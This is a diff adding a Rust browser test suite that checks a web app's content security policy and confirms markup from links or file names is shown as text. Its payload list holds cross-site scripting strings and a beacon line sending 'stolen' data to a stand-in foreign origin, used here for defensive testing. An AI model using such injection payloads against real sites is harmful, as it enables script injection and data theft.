@@ -1,0 +1,92 @@
+//! What SECURITY.md promises: the content security policy stops what breaks it, and what comes from
+//! a link or a file is text.
+
+use serde_json::json;
+use thirtyfour::prelude::*;
+
+use super::browser::with_page;
+use super::page::Page;
+use super::server;
+
+/// What a page under attack would do, and the directive that stops it. `FOREIGN` is an origin that is
+/// not the page's own.
+const VIOLATIONS: [(&str, &str); 12] = [
+    ("script-src-elem", "add('script', { textContent: 'window.pwned = 1' })"),
+    (
+        "script-src-attr",
+        "document.body.insertAdjacentHTML('beforeend', '<b onclick=\"window.pwned = 2\"></b>')",
+    ),
+    ("script-src", "setTimeout('window.pwned = 3')"),
+    ("script-src-elem", "add('script', { src: FOREIGN + 'script.js' })"),
+    ("worker-src", "new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))"),
+    ("connect-src", "fetch(FOREIGN).catch(() => {})"),
+    ("connect-src", "navigator.sendBeacon(FOREIGN, 'stolen')"),
+    ("img-src", "add('img', { src: FOREIGN + 'picture.png' })"),
+    ("style-src-attr", "document.body.insertAdjacentHTML('beforeend', '<i style=\"color: red\"></i>')"),
+    ("frame-src", "add('iframe', { src: FOREIGN })"),
+    ("base-uri", "add('base', { href: FOREIGN })"),
+    ("form-action", "add('form', { action: FOREIGN }).submit()"),
+];
+
+const MARKUP: &str = "<img src=x onerror=pwned=9>";
+
+#[tokio::test]
+async fn what_breaks_the_policy_is_stopped() {
+    with_page(|page| async move {
+        page.open("#v=1&data=ring8&seed=1").await;
+        let listen = "window.stopped = [];
+            addEventListener('securitypolicyviolation', e => stopped.push(e.effectiveDirective));
+            window.FOREIGN = 'http://localhost:9/';
+            window.add = (tag, what) => document.body.appendChild(Object.assign(document.createElement(tag), what))";
+        page.script(listen, vec![]).await;
+        for (directive, attack) in VIOLATIONS {
+            page.script(&format!("stopped.length = 0; {attack}"), vec![]).await;
+            let stopped = format!("return stopped.includes('{directive}')");
+            page.until(&format!("{directive} stops {attack}"), 5, &stopped).await;
+        }
+        let click = "document.querySelector('b[onclick]')?.click(); return window.pwned ?? null";
+        assert!(page.script(click, vec![]).await.is_null(), "a script of the attacker has run");
+        // The console is full of what was stopped, and the attempts count as requests.
+        page.driver.browser_log().await.expect("the console");
+        page.script("performance.clearResourceTimings()", vec![]).await;
+    })
+    .await;
+}
+
+/// That [`MARKUP`] is on the page as text, and only as that.
+async fn is_text(page: &Page) {
+    page.until(
+        "a message with the markup as text",
+        15,
+        "return !!el('message')?.textContent.includes('<img')",
+    )
+    .await;
+    let made = "return document.querySelectorAll('img').length > 0 || 'pwned' in window";
+    assert_eq!(page.script(made, vec![]).await, false, "the markup came alive");
+}
+
+#[tokio::test]
+async fn a_link_with_markup_is_text() {
+    with_page(|page| async move {
+        let link = format!("#v=1&data=ring8&seed=1&loss={}", MARKUP.replace(' ', "%20"));
+        page.open(&link).await;
+        is_text(&page).await;
+    })
+    .await;
+}
+
+#[tokio::test]
+async fn a_file_named_like_markup_is_text() {
+    with_page(|page| async move {
+        page.driver.goto("about:blank").await.expect("a blank page");
+        page.driver.goto(format!("{}/#v=1&data=mnist&seed=1", server::origin())).await.expect("the page");
+        page.until("a way to choose files", 30, "return !!document.querySelector('input[type=file]')").await;
+        let choose =
+            "const chosen = new DataTransfer(); chosen.items.add(new File(['no images'], arguments[0]));
+            const input = document.querySelector('input[type=file]'); input.files = chosen.files;
+            input.dispatchEvent(new Event('change', { bubbles: true }))";
+        page.script(choose, vec![json!(MARKUP)]).await;
+        is_text(&page).await;
+    })
+    .await;
+}
